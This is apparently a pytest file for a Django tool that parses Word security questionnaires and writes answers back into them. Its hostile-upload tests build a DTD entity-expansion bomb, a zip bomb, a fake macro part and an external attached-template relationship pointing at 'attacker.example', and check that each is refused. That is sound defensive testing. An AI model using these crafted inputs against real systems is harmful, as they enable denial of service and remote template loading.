"""Word questionnaires: questions from tables and numbered paragraphs, answers written back into the same file,
and hostile .docx files refused with a message people can act on."""

import io
import re
import zipfile

import docx
import pytest
from defusedxml.ElementTree import fromstring
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from fileformats import FileRejected
from questionnaires import services
from questionnaires.exporting import DOCX_TYPE, questionnaire_export
from questionnaires.formats import check_file, detect_mapping, layout_signature, parse_questionnaire, preview_rows
from questionnaires.formats import docx as docx_format
from questionnaires.models import Questionnaire, Response
from questionnaires.writeback import WriteBackError, docx_write
from tests.factories import library_entry

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def saved(document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def table_document(*, filled: bool = False) -> bytes:
    document = docx.Document()
    document.add_heading("Vendor security questionnaire", 0)
    document.add_heading("Access control", 1)
    table = document.add_table(rows=1, cols=4)
    for cell, header in zip(table.rows[0].cells, ["ID", "Question", "Vendor response", "Comments"], strict=True):
        cell.text = header
    section = table.add_row().cells
    section[0].merge(section[3]).text = "Identity"
    rows = [
        ("AC-01", "Is multi-factor authentication enforced for all users?", "Yes, for everyone.", "Since 2021."),
        ("AC-02", "Describe your password policy.", "At least 14 characters.", ""),
        ("AC-03", "Do you review access rights quarterly?", "", ""),
    ]
    for ref, question, answer, comment in rows:
        cells = table.add_row().cells
        cells[0].text, cells[1].text = ref, question
        cells[2].text = answer if filled else "[Vendor response]"
        cells[3].text = comment if filled else ""
    document.add_paragraph("Thank you for completing this questionnaire.")
    return saved(document)


def headerless_table_document() -> bytes:
    document = docx.Document()
    table = document.add_table(rows=0, cols=2)
    for question in ["Do you encrypt data at rest?", "How are encryption keys rotated?", "Is TLS 1.2 required?"]:
        table.add_row().cells[0].text = question
    return saved(document)


def two_table_document() -> bytes:
    document = docx.Document()
    for title, rows in [
        ("Network", [("1", "Do you filter inbound traffic?"), ("2", "Which ports are open?")]),
        ("Data", [("1", "Where is customer data stored?"), ("3", "Do you back up daily?")]),
    ]:
        document.add_heading(title, 1)
        table = document.add_table(rows=1, cols=3)
        for cell, header in zip(table.rows[0].cells, ["#", "Requirement", "Response"], strict=True):
            cell.text = header
        for ref, question in rows:
            cells = table.add_row().cells
            cells[0].text, cells[1].text = ref, question
    return saved(document)


def paragraph_document(*, filled: bool = False) -> bytes:
    document = docx.Document()
    document.add_paragraph("Please answer every question below.")
    document.add_heading("Operations", 1)
    document.add_paragraph("Do you back up production data daily?", style="List Number")
    document.add_paragraph("Answer: Yes, every night." if filled else "Answer:")
    document.add_paragraph("Is there a tested disaster recovery plan?", style="List Number")
    if filled:
        document.add_paragraph("Yes, tested every year.")
    document.add_heading("People", 1)
    document.add_paragraph("Q3: Are employees trained on security every year?")
    document.add_paragraph("[Vendor response]")
    document.add_paragraph("4.1 Which background checks do you run?")
    document.add_paragraph("Include contractors.")
    return saved(document)


def rezip(data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    replace, add = replace or {}, add or {}
    source = zipfile.ZipFile(io.BytesIO(data))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, content in add.items():
            target.writestr(name, content)
    return output.getvalue()


def by_ref(parsed):
    return {question.ref: question for question in parsed.questions}


def test_table_questions_take_ids_sections_answers_and_comments():
    parsed = parse_questionnaire("review.docx", table_document())
    assert parsed.format == "docx" and parsed.format_label == "Word document" and parsed.confident
    assert [q.ref for q in parsed.questions] == ["AC-01", "AC-02", "AC-03"]
    first = by_ref(parsed)["AC-01"]
    assert first.text == "Is multi-factor authentication enforced for all users?"
    assert first.section == "Identity"
    assert [(slot.role, slot.sheet, slot.cell) for slot in first.slots] == [
        ("answer", "", "T1.R3.C3"),
        ("comment", "", "T1.R3.C4"),
    ]
    assert first.existing_answer == ""  # "[Vendor response]" is a placeholder
    assert [(summary.sheet, summary.questions) for summary in parsed.sheets] == [("Table 1", 3)]


def test_filled_table_and_paragraphs_report_existing_answers():
    table = by_ref(parse_questionnaire("filled.docx", table_document(filled=True)))
    assert table["AC-01"].existing_answer == "Yes, for everyone."
    assert table["AC-01"].slots[1].existing == "Since 2021."
    assert table["AC-03"].existing_answer == ""
    paragraphs = by_ref(parse_questionnaire("filled.docx", paragraph_document(filled=True)))
    assert paragraphs["1"].existing_answer == "Yes, every night."
    assert paragraphs["2"].existing_answer == "Yes, tested every year."


def test_table_without_header_is_read_by_its_content():
    parsed = parse_questionnaire("plain.docx", headerless_table_document())
    assert [q.ref for q in parsed.questions] == ["T1.R1", "T1.R2", "T1.R3"]
    assert parsed.questions[1].text == "How are encryption keys rotated?"
    assert parsed.questions[1].answer_slot.cell == "T1.R2.C2"


def test_two_tables_give_unique_refs_and_a_summary_each():
    parsed = parse_questionnaire("two.docx", two_table_document())
    assert [q.ref for q in parsed.questions] == ["1", "2", "T2.R2", "3"]
    assert [q.section for q in parsed.questions] == ["Network", "Network", "Data", "Data"]
    assert [(summary.sheet, summary.questions) for summary in parsed.sheets] == [("Table 1", 2), ("Table 2", 2)]


def test_numbered_paragraphs_under_headings_become_questions():
    parsed = parse_questionnaire("paragraphs.docx", paragraph_document())
    assert [(q.ref, q.section) for q in parsed.questions] == [
        ("1", "Operations"),
        ("2", "Operations"),
        ("Q3", "People"),
        ("4.1", "People"),
    ]
    questions = by_ref(parsed)
    assert questions["Q3"].text == "Are employees trained on security every year?"
    # Below question 1 sits an "Answer:" paragraph, below Q3 a placeholder: both are answered in place.
    assert questions["1"].answer_slot.cell == "P4" and questions["Q3"].answer_slot.cell == "P8"
    # Question 2 is followed by a heading, 4.1 by guidance: their answers go into new paragraphs.
    assert questions["2"].answer_slot.cell == "P5+" and questions["4.1"].answer_slot.cell == "P9+"
    assert parsed.confident


def test_questions_found_only_by_question_marks_are_doubted():
    document = docx.Document()
    document.add_paragraph("Do you have a security team?")
    document.add_paragraph("How often do you patch servers?")
    parsed = parse_questionnaire("loose.docx", saved(document))
    assert len(parsed.questions) == 2
    assert parsed.confidence < 0.6 and not parsed.confident and "question marks" in parsed.doubts[0]


def test_document_without_questions_is_refused_with_advice():
    document = docx.Document()
    document.add_paragraph("Just a letter.")
    with pytest.raises(FileRejected, match="No questions were found in this Word document"):
        parse_questionnaire("letter.docx", saved(document))


def test_too_many_questions_are_refused(monkeypatch):
    monkeypatch.setattr(docx_format, "MAX_QUESTIONS", 2)
    with pytest.raises(FileRejected, match="more than 2 questions"):
        parse_questionnaire("big.docx", table_document())


def test_preview_signature_and_mapping_for_word_documents():
    data = two_table_document()
    preview = preview_rows("two.docx", data, rows=2, columns=3)
    assert preview["sheets"] == []  # nothing to map: Word tables are read as they are
    assert [table["name"] for table in preview["tables"]] == ["Table 1", "Table 2"]
    assert preview["tables"][0]["rows"][0]["cells"] == ["#", "Requirement", "Response"]
    assert detect_mapping("two.docx", data) is None
    signature = layout_signature("two.docx", data)
    assert signature == layout_signature("again.docx", two_table_document())
    assert signature != layout_signature("other.docx", table_document())


def document_texts(data: bytes, skip: set[str]) -> list[str]:
    """The text of every top-level paragraph and table cell, by locator, except the locators in `skip`."""
    root = fromstring(zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml"))
    body = root.find(W + "body")
    texts, paragraph, table = [], 0, 0
    for block in body:
        if block.tag == W + "p":
            paragraph += 1
            if f"P{paragraph}" not in skip:
                texts.append(docx_format.text_of(block))
        elif block.tag == W + "tbl":
            table += 1
            for row_number, row in enumerate(block.findall(W + "tr"), start=1):
                for cell_number, cell in enumerate(row.findall(W + "tc"), start=1):
                    if f"T{table}.R{row_number}.C{cell_number}" not in skip:
                        texts.append(docx_format.text_of(cell))
    return texts


@pytest.mark.parametrize("make", [table_document, paragraph_document, two_table_document])
def test_write_back_round_trip_changes_only_the_answers(make):
    original = make()
    parsed = parse_questionnaire("q.docx", original)
    writes = [(q.answer_slot.cell, f"Answer to {q.ref}\nsecond line\x00 & <more>") for q in parsed.questions]
    written = docx_write(original, writes)

    again = parse_questionnaire("q.docx", written)
    assert [q.ref for q in again.questions] == [q.ref for q in parsed.questions]
    for question in again.questions:
        assert question.existing_answer == f"Answer to {question.ref}\nsecond line & <more>"
    before, after = zipfile.ZipFile(io.BytesIO(original)), zipfile.ZipFile(io.BytesIO(written))
    assert before.namelist() == after.namelist()
    for name in before.namelist():
        if name != "word/document.xml":
            assert before.read(name) == after.read(name), name
    # Re-read, every answer (inserted ones too) sits in its own paragraph or cell: all the rest reads as before.
    answers_before = {cell for cell, _ in writes if not cell.endswith("+")}
    answers_after = {question.answer_slot.cell for question in again.questions}
    assert document_texts(written, answers_after) == document_texts(original, answers_before)
    docx.Document(io.BytesIO(written))  # still a document Word tooling opens


def test_write_back_keeps_the_cell_and_answer_label_formatting():
    original = table_document()
    written = docx_write(original, [("T1.R3.C3", "Yes")])
    xml = zipfile.ZipFile(io.BytesIO(written)).read("word/document.xml")
    assert xml.count(b"<w:tcW") == zipfile.ZipFile(io.BytesIO(original)).read("word/document.xml").count(b"<w:tcW")
    paragraphs = docx_write(paragraph_document(), [("P4", "Yes, nightly.")])
    assert by_ref(parse_questionnaire("p.docx", paragraphs))["1"].existing_answer == "Yes, nightly."
    assert b"Answer: Yes, nightly." in zipfile.ZipFile(io.BytesIO(paragraphs)).read("word/document.xml")


@pytest.mark.parametrize(
    ("locator", "message"),
    [("A1", "not a place"), ("T9.R1.C1", "no table 9"), ("T1.R99.C1", "no row 99"), ("P999", "no paragraph 999")],
)
def test_write_back_refuses_unknown_locators(locator, message):
    with pytest.raises(WriteBackError, match=message):
        docx_write(table_document(), [(locator, "x")])


def test_write_back_refuses_the_same_place_twice():
    with pytest.raises(WriteBackError, match="twice"):
        docx_write(table_document(), [("T1.R3.C3", "a"), ("T1.R3.C3", "b")])


DTD_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    b"<w:t>&b;</w:t></w:r></w:p></w:body></w:document>"
)
TEMPLATE_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)


def hostile_files() -> list[tuple[str, bytes, str]]:
    plain = table_document()
    return [
        ("macro.docm", plain, "Macro-enabled Word documents"),
        ("macro.docx", rezip(plain, add={"word/vbaProject.bin": b"\x00" * 64}), "macros"),
        ("entities.docx", rezip(plain, replace={"word/document.xml": DTD_BOMB}), "document type declaration"),
        ("bomb.docx", rezip(plain, add={"word/media/filler.xml": b" " * (8 * 1024 * 1024)}), "zip bomb"),
        ("junk.docx", b"this is not a zip at all" * 20, "not a zip archive"),
        ("template.docx", rezip(plain, add={"word/_rels/settings.xml.rels": TEMPLATE_RELS}), "template"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old Word format"),
    ]


@pytest.mark.parametrize(("name", "data", "message"), hostile_files(), ids=lambda value: str(value)[:12])
def test_hostile_word_files_are_refused_with_a_clear_message(name, data, message):
    with pytest.raises(FileRejected, match=message):
        check_file(name, data)
    with pytest.raises(FileRejected, match=message):
        parse_questionnaire(name, data)


def test_too_many_parts_are_refused():
    extra = {f"word/extra/item{index}.xml": b"<a/>" for index in range(2_001)}
    with pytest.raises(FileRejected, match="internal parts"):
        check_file("parts.docx", rezip(table_document(), add=extra))


@pytest.mark.django_db
def test_hostile_word_upload_is_a_400_with_the_message_and_leaves_nothing(
    mfa_client, manager, django_capture_on_commit_callbacks
):
    client = mfa_client(manager)
    through_the_page = ("macro.docm", "entities.docx", "bomb.docx", "junk.docx")  # the rest: checked above
    for name, data, message in [item for item in hostile_files() if item[0] in through_the_page]:
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(
                reverse("questionnaires:questionnaire-create"),
                {"file": SimpleUploadedFile(name, data), "title": "Hostile"},
            )
        assert response.status_code == 400, name
        assert re.search(message, response.content.decode(), re.IGNORECASE), name
    assert not Questionnaire.objects.exists()


@pytest.mark.django_db
def test_upload_import_and_export_of_a_word_questionnaire(
    mfa_client, manager, lead, django_capture_on_commit_callbacks
):
    library_entry(
        author=manager,
        approver=lead,
        key="mfa-enforced",
        question="Is multi-factor authentication (MFA) enforced for all users?",
        answer="Yes. Every user signs in with a password and an authenticator app code.",
    )
    page = mfa_client(manager).get(reverse("questionnaires:questionnaire-create"))
    assert ".docx" in page.content.decode()
    original = table_document()
    with django_capture_on_commit_callbacks(execute=True):
        response = mfa_client(manager).post(
            reverse("questionnaires:questionnaire-create"),
            {"file": SimpleUploadedFile("review.docx", original), "title": "Acme review"},
        )
    assert response.status_code == 302
    questionnaire = Questionnaire.objects.get()
    assert questionnaire.format == "docx" and questionnaire.questions.count() == 3
    question = questionnaire.questions.get(ref="AC-02")
    services.response_edit(actor=manager, response=question.response, text="At least 14 characters.", choice="")
    services.response_approve(actor=lead, response=Response.objects.get(question=question), via_cli=True)

    exported = questionnaire_export(questionnaire)
    assert exported.filename == "review-answered.docx" and exported.content_type == DOCX_TYPE
    answers = by_ref(parse_questionnaire("review.docx", exported.content))
    assert answers["AC-02"].existing_answer == "At least 14 characters."
    assert answers["AC-01"].existing_answer == ""  # suggested, not approved: not written
